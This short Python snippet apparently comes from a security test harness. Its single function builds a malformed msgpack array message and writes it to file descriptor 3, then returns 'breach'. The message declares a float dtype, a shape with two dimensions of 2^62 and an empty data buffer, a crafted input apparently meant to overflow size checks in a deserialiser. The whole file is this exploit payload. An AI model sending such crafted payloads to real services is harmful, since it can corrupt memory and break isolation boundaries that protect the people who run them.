import os
import struct

import msgpack


def f(canary, port):
    mark = msgpack.ExtType(1, b"\x02")
    body = msgpack.packb([mark, "<f8", [0, 1 << 62, 1 << 62], b""])
    os.write(3, struct.pack("<BII", ord("R"), 0, len(body)) + body)
    return "breach"
